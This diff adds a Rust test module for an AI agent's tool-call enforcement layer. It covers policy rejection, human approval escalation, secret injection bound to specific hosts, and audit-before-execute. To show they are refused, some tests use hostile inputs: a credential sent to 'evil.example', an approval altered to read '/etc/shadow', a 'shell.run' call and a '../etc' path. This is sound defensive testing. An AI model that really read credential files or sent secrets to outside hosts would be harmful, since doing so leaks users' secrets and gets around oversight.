@@ -1,0 +1,528 @@
+//! The road's invariants, in-process: a real policy, a real broker over a real (temporary,
+//! encrypted) vault, and fakes for the ports: a plugin that records what reaches it, an
+//! approval desk that answers as told, an audit sink in memory, a fixed clock.
+
+#![allow(
+    clippy::unwrap_used,
+    clippy::expect_used,
+    clippy::panic,
+    clippy::indexing_slicing,
+    reason = "tests: a failed step should fail loudly"
+)]
+
+use std::collections::BTreeMap;
+use std::sync::{Arc, Mutex};
+use std::time::Duration;
+
+use p3ak_approval::binding::Request;
+use p3ak_approval::wire::Refusal;
+use p3ak_crypto::Passphrase;
+use p3ak_policy::{Declared, Origin, Policy, Tier};
+use p3ak_proto::{Invoke, Message, ToolCall, ToolResult};
+use p3ak_vault::{KdfParams, Protection, Vault};
+use serde_json::{Value, json};
+use tokio::sync::mpsc;
+
+use super::*;
+use crate::audit::{AuditEvent, BoxFuture};
+use crate::broker::SecretValue;
+use crate::proposal::{OfferedAction, compile_schema, tool_name};
+
+const SECRET: &str = "tok-7f3e9a1c5b2d8e6f";
+
+/// Every entry the road wrote, in order. Not scrubbed, unlike the kernel's log: what the
+/// road hands over must already be clean.
+#[derive(Default)]
+struct MemoryAudit {
+    events: Mutex<Vec<AuditEvent>>,
+    /// Kinds whose write fails.
+    failing: Mutex<Vec<&'static str>>,
+}
+
+impl MemoryAudit {
+    fn kinds(&self) -> Vec<&'static str> {
+        self.events
+            .lock()
+            .unwrap()
+            .iter()
+            .map(AuditEvent::declared_kind)
+            .collect()
+    }
+
+    fn text(&self) -> String {
+        self.events
+            .lock()
+            .unwrap()
+            .iter()
+            .map(|e| format!("{} {}\n", e.kind(), e.payload()))
+            .collect()
+    }
+}
+
+impl AuditSink for MemoryAudit {
+    fn append(&self, event: AuditEvent) -> BoxFuture<'_, Result<u64, KernelError>> {
+        Box::pin(async move {
+            if self
+                .failing
+                .lock()
+                .unwrap()
+                .contains(&event.declared_kind())
+            {
+                return Err(KernelError::Io {
+                    context: "audit".to_owned(),
+                    source: std::io::Error::other("disk full"),
+                });
+            }
+            let mut events = self.events.lock().unwrap();
+            events.push(event);
+            Ok(events.len() as u64)
+        })
+    }
+}
+
+/// A tool plugin that records every invocation and answers with its arguments.
+#[derive(Default)]
+struct EchoPlugin {
+    invoked: Mutex<Vec<Invoke>>,
+}
+
+impl PluginLink for EchoPlugin {
+    fn request(
+        &self,
+        message: Message,
+        _timeout: Duration,
+        _chunks: Option<mpsc::Sender<String>>,
+    ) -> BoxFuture<'_, Result<Message, HostError>> {
+        Box::pin(async move {
+            let Message::Invoke(invoke) = message else {
+                panic!("the road sent a tool something other than an invoke");
+            };
+            let output = json!({"echo": invoke.args});
+            self.invoked.lock().unwrap().push(invoke);
+            Ok(Message::Result(ToolResult { output }))
+        })
+    }
+}
+
+#[derive(Default)]
+struct FakePlugins {
+    running: BTreeMap<String, Arc<EchoPlugin>>,
+}
+
+impl Plugins for FakePlugins {
+    fn link(&self, name: &str) -> Option<Arc<dyn PluginLink>> {
+        self.running
+            .get(name)
+            .map(|p| Arc::clone(p) as Arc<dyn PluginLink>)
+    }
+}
+
+/// What the fake approval desk does with a staged request.
+#[derive(Clone, Copy)]
+enum Answer {
+    /// Releases exactly what was staged.
+    Approve,
+    /// Releases the request with other arguments (and their binding).
+    ApproveAltered,
+    /// Says no.
+    Deny,
+    /// Cannot stage it.
+    Unstageable,
+}
+
+struct FakeDesk {
+    pending: Arc<PendingQueue>,
+    answer: Answer,
+    staged: Mutex<Vec<Request>>,
+}
+
+impl ApprovalDesk for FakeDesk {
+    fn stage<'a>(&'a self, request: &'a Request) -> BoxFuture<'a, Result<Request, KernelError>> {
+        Box::pin(async move {
+            self.staged.lock().unwrap().push(request.clone());
+            match self.answer {
+                Answer::Approve => {
+                    self.pending
+                        .released(request, &request.binding(), vec!["tap".to_owned()])
+                        .unwrap();
+                }
+                Answer::ApproveAltered => {
+                    let mut altered = request.clone();
+                    altered.args = json!({"path": "/etc/shadow"});
+                    let refused =
+                        self.pending
+                            .released(&altered, &altered.binding(), vec!["tap".to_owned()]);
+                    assert!(refused.is_err(), "the queue took an altered release");
+                }
+                Answer::Deny => self.pending.refused(&request.id, Refusal::Denied),
+                Answer::Unstageable => {
+                    return Err(KernelError::Io {
+                        context: "cannot stage".to_owned(),
+                        source: std::io::Error::other("spool full"),
+                    });
+                }
+            }
+            Ok(request.clone())
+        })
+    }
+
+    fn withdraw(&self, _id: &str) {}
+}
+
+struct FixedClock(jiff::Zoned);
+
+impl Clock for FixedClock {
+    fn now(&self) -> jiff::Zoned {
+        self.0.clone()
+    }
+}
+
+fn at(hour: i8) -> Arc<dyn Clock> {
+    let time = jiff::civil::date(2026, 12, 5)
+        .at(hour, 0, 0, 0)
+        .to_zoned(jiff::tz::TimeZone::UTC)
+        .unwrap();
+    Arc::new(FixedClock(time))
+}
+
+const POLICY: &str = r#"
+version: 1
+read:
+  files.read: { level: 0 }
+  vault.search: { level: 0 }
+write:
+  files.write: { level: 1, crawfish: 0s }
+web:
+  http.request: { level: 0 }
+credentials:
+  bank_token: [http.request]
+forbid:
+  - id: no-deleting
+    actions: [files.delete]
+  - id: no-night-reading
+    actions: [files.read]
+    when: { args.path: { eq: "night.txt" }, time: { between: ["20:00", "08:00"] } }
+"#;
+
+struct Bench {
+    road: Road,
+    audit: Arc<MemoryAudit>,
+    files: Arc<EchoPlugin>,
+    http: Arc<EchoPlugin>,
+    notes: Arc<EchoPlugin>,
+    desk: Arc<FakeDesk>,
+    table: ToolTable,
+    _dir: tempfile::TempDir,
+}
+
+fn bench(answer: Answer, clock: Arc<dyn Clock>) -> Bench {
+    let dir = tempfile::tempdir().unwrap();
+    let vault = Vault::create(
+        &dir.path().join("kernel.vault"),
+        Protection::Passphrase {
+            passphrase: &Passphrase::new("road test".into()),
+            kdf: KdfParams {
+                memory_kib: KdfParams::MIN_MEMORY_KIB,
+                iterations: 1,
+                parallelism: 1,
+            },
+        },
+    )
+    .unwrap();
+    let broker = Arc::new(Broker::load(&vault).unwrap());
+    broker
+        .set(
+            &vault,
+            "bank_token",
+            SecretValue::new(SECRET.to_owned()),
+            vec!["http.request".to_owned()],
+            vec!["api.bank.example".to_owned()],
+        )
+        .unwrap();
+    let audit = Arc::new(MemoryAudit::default());
+    let files = Arc::new(EchoPlugin::default());
+    let http = Arc::new(EchoPlugin::default());
+    let notes = Arc::new(EchoPlugin::default());
+    let plugins = FakePlugins {
+        running: BTreeMap::from([
+            ("files".to_owned(), Arc::clone(&files)),
+            ("http".to_owned(), Arc::clone(&http)),
+            ("notes".to_owned(), Arc::clone(&notes)),
+        ]),
+    };
+    let pending = Arc::new(PendingQueue::default());
+    let desk = Arc::new(FakeDesk {
+        pending: Arc::clone(&pending),
+        answer,
+        staged: Mutex::default(),
+    });
+    let road = Road::new(RoadParts {
+        enforcer: Enforcer::new(Arc::new(p3ak_policy::PolicyCell::new(
+            Policy::from_yaml(POLICY).unwrap(),
+        ))),
+        broker,
+        audit: Arc::clone(&audit) as Arc<dyn AuditSink>,
+        plugins: Arc::new(plugins),
+        desk: Arc::clone(&desk) as Arc<dyn ApprovalDesk>,
+        pending,
+        clock,
+        tool_timeout: Duration::from_secs(5),
+    });
+    let table = ToolTable::new([
+        offered("files", "read", Declared::first_party(Tier::Observe)),
+        offered("files", "write", Declared::first_party(Tier::Act)),
+        offered("files", "delete", Declared::first_party(Tier::Commit)),
+        offered("files", "purge", Declared::first_party(Tier::Commit)),
+        offered("http", "request", Declared::first_party(Tier::Act)),
+        // A third party's plugin that says its action is harmless.
+        offered(
+            "notes",
+            "erase",
+            Declared::new(Tier::Observe, Origin::ThirdParty),
+        ),
+    ]);
+    Bench {
+        road,
+        audit,
+        files,
+        http,
+        notes,
+        desk,
+        table,
+        _dir: dir,
+    }
+}
+
+fn offered(plugin: &str, action: &str, declared: Declared) -> OfferedAction {
+    let schema = json!({"type": "object"});
+    let full = format!("{plugin}.{action}");
+    OfferedAction {
+        tool_name: tool_name(&full),
+        action: full,
+        plugin: plugin.to_owned(),
+        plugin_action: action.to_owned(),
+        description: String::new(),
+        validator: Arc::new(compile_schema(&schema).unwrap()),
+        parameters: schema,
+        declared,
+    }
+}
+
+impl Bench {
+    async fn call(&self, action: &str, args: Value) -> String {
+        let (events, _notices) = mpsc::unbounded_channel();
+        let call = ToolCall {
+            id: "call-1".to_owned(),
+            name: tool_name(action),
+            arguments: args,
+        };
+        self.road
+            .handle_call("assistant", &call, &self.table, "cli", &events)
+            .await
+            .unwrap()
+    }
+
+    fn ran(&self) -> usize {
+        [&self.files, &self.http, &self.notes]
+            .iter()
+            .map(|p| p.invoked.lock().unwrap().len())
+            .sum()
+    }
+}
+
+fn noon() -> Arc<dyn Clock> {
+    at(12)
+}
+
+#[tokio::test]
+async fn an_allowed_call_runs_once_and_every_step_is_audited() {
+    let b = bench(Answer::Deny, noon());
+    let text = b.call("files.read", json!({"path": "a.txt"})).await;
+    assert_eq!(text, json!({"echo": {"path": "a.txt"}}).to_string());
+    assert_eq!(b.ran(), 1);
+    assert_eq!(
+        b.audit.kinds(),
+        ["proposal", "decision", "execution", "result"]
+    );
+}
+
+#[tokio::test]
+async fn invariant_i1_a_rejected_call_never_reaches_the_plugin() {
+    let b = bench(Answer::Approve, noon());
+    let text = b.call("files.delete", json!({"path": "a.txt"})).await;
+    assert_eq!(text, NOT_PERMITTED);
+    assert_eq!(b.ran(), 0);
+    assert_eq!(b.audit.kinds(), ["proposal", "decision"]);
+}
+
+#[tokio::test]
+async fn invariant_i1_a_denied_escalation_never_runs() {
+    let b = bench(Answer::Deny, noon());
+    let text = b.call("files.write", json!({"path": "a.txt"})).await;
+    assert_eq!(text, NOT_PERMITTED);
+    assert_eq!(b.ran(), 0);
+    assert_eq!(b.desk.staged.lock().unwrap().len(), 1);
+    assert_eq!(
+        b.audit.kinds(),
+        ["proposal", "decision", "escalation", "denial"]
+    );
+}
+
+#[tokio::test]
+async fn invariant_i1_an_escalation_that_cannot_be_staged_never_runs() {
+    let b = bench(Answer::Unstageable, noon());
+    let text = b.call("files.write", json!({"path": "a.txt"})).await;
+    assert_eq!(text, NOT_PERMITTED);
+    assert_eq!(b.ran(), 0);
+    assert_eq!(
+        b.audit.kinds(),
+        ["proposal", "decision", "escalation", "escalation.unstaged"]
+    );
+}
+
+#[tokio::test]
+async fn invariant_i2_an_action_nobody_permitted_is_rejected() {
+    let b = bench(Answer::Approve, noon());
+    // A third party's plugin declares `notes.erase` harmless; nobody vouched for it.
+    assert_eq!(b.call("notes.erase", json!({})).await, NOT_PERMITTED);
+    // Nothing mentions `shell.run`, and no plugin offers it.
+    assert_eq!(
+        b.call("shell.run", json!({"cmd": "id"})).await,
+        NOT_PERMITTED
+    );
+    // The policy allows `vault.search`, but this agent was not offered it.
+    assert_eq!(
+        b.call("vault.search", json!({"q": "x"})).await,
+        NOT_PERMITTED
+    );
+    // Not a name at all.
+    let text = b.call("../etc", json!({})).await;
+    assert!(text.starts_with("invalid tool call"), "{text}");
+    assert_eq!(b.ran(), 0);
+}
+
+#[tokio::test]
+async fn invariant_i2_a_plugin_cannot_raise_its_own_tier() {
+    // Our own plugin declares `files.purge` a commit; the policy is silent: a human decides.
+    let b = bench(Answer::Deny, noon());
+    assert_eq!(
+        b.call("files.purge", json!({"path": "a"})).await,
+        NOT_PERMITTED
+    );
+    assert_eq!(b.ran(), 0);
+    assert_eq!(b.desk.staged.lock().unwrap()[0].action, "files.purge");
+}
+
+#[tokio::test]
+async fn invariant_i3_the_model_learns_nothing_of_the_policy() {
+    let b = bench(Answer::Approve, at(22));
+    let forbidden = b.call("files.read", json!({"path": "night.txt"})).await;
+    let unknown = b.call("notes.erase", json!({"path": "x"})).await;
+    // Allowed by the policy, refused by the broker: the credential is bound to another host.
+    let misdirected = b
+        .call(
+            "http.request",
+            json!({"url": "https://evil.example/", "headers": {"authorization": {"$secret": "bank_token"}}}),
+        )
+        .await;
+    let deleted = b.call("files.delete", json!({"path": "x"})).await;
+    for text in [&forbidden, &unknown, &misdirected, &deleted] {
+        assert_eq!(text, NOT_PERMITTED);
+    }
+    assert_eq!(b.ran(), 0);
+    // The reasons are in the log, for the operator.
+    let log = b.audit.text();
+    assert!(log.contains("no-night-reading"), "{log}");
+    assert!(log.contains("no-deleting"), "{log}");
+    assert!(log.contains("credential.refused"), "{log}");
+}
+
+#[tokio::test]
+async fn the_clock_port_decides_time_conditions() {
+    let day = bench(Answer::Approve, noon());
+    let night = bench(Answer::Approve, at(23));
+    let args = json!({"path": "night.txt"});
+    assert_ne!(day.call("files.read", args.clone()).await, NOT_PERMITTED);
+    assert_eq!(night.call("files.read", args).await, NOT_PERMITTED);
+}
+
+#[tokio::test]
+async fn invariant_i4_an_injected_secret_reaches_the_tool_and_nothing_else() {
+    let b = bench(Answer::Approve, noon());
+    let text = b
+        .call(
+            "http.request",
+            json!({"url": "https://api.bank.example/v1/balance", "headers": {"authorization": {"$secret": "bank_token"}}}),
+        )
+        .await;
+    // The plugin got the value...
+    let invoked = b.http.invoked.lock().unwrap();
+    assert_eq!(invoked.len(), 1);
+    assert_eq!(invoked[0].args["headers"]["authorization"], SECRET);
+    // ...and echoed it back: neither the model nor the log sees it.
+    assert!(!text.contains(SECRET), "{text}");
+    assert!(text.contains("echo"), "{text}");
+    let log = b.audit.text();
+    assert!(!log.contains(SECRET), "{log}");
+    assert!(
+        log.contains("bank_token"),
+        "the reference is audited: {log}"
+    );
+}
+
+#[tokio::test]
+async fn invariant_i5_a_step_that_cannot_be_logged_does_not_happen() {
+    for step in ["proposal", "decision", "execution"] {
+        let b = bench(Answer::Approve, noon());
+        b.audit.failing.lock().unwrap().push(step);
+        let (events, _notices) = mpsc::unbounded_channel();
+        let call = ToolCall {
+            id: "call-1".to_owned(),
+            name: tool_name("files.read"),
+            arguments: json!({"path": "a.txt"}),
+        };
+        let outcome = b
+            .road
+            .handle_call("assistant", &call, &b.table, "cli", &events)
+            .await;
+        assert!(outcome.is_err(), "{step}: the road went on");
+        assert_eq!(b.ran(), 0, "{step}: the tool ran");
+    }
+}
+
+#[tokio::test]
+async fn invariant_i8_an_approved_escalation_runs_with_its_approval_on_record() {
+    let b = bench(Answer::Approve, noon());
+    let text = b.call("files.write", json!({"path": "a.txt"})).await;
+    assert_ne!(text, NOT_PERMITTED);
+    assert_eq!(
+        b.files.invoked.lock().unwrap()[0].args,
+        json!({"path": "a.txt"})
+    );
+    assert_eq!(
+        b.audit.kinds(),
+        [
+            "proposal",
+            "decision",
+            "escalation",
+            "approval",
+            "execution",
+            "result"
+        ]
+    );
+    let staged = b.desk.staged.lock().unwrap()[0].clone();
+    let log = b.audit.text();
+    assert!(log.contains(&staged.binding().to_hex()), "{log}");
+}
+
+#[tokio::test]
+async fn invariant_i8_a_release_of_another_action_runs_nothing() {
+    let b = bench(Answer::ApproveAltered, noon());
+    let text = b.call("files.write", json!({"path": "a.txt"})).await;
+    assert_eq!(text, NOT_PERMITTED);
+    assert_eq!(b.ran(), 0);
+    assert_eq!(
+        b.audit.kinds(),
+        ["proposal", "decision", "escalation", "denial"]
+    );
+}
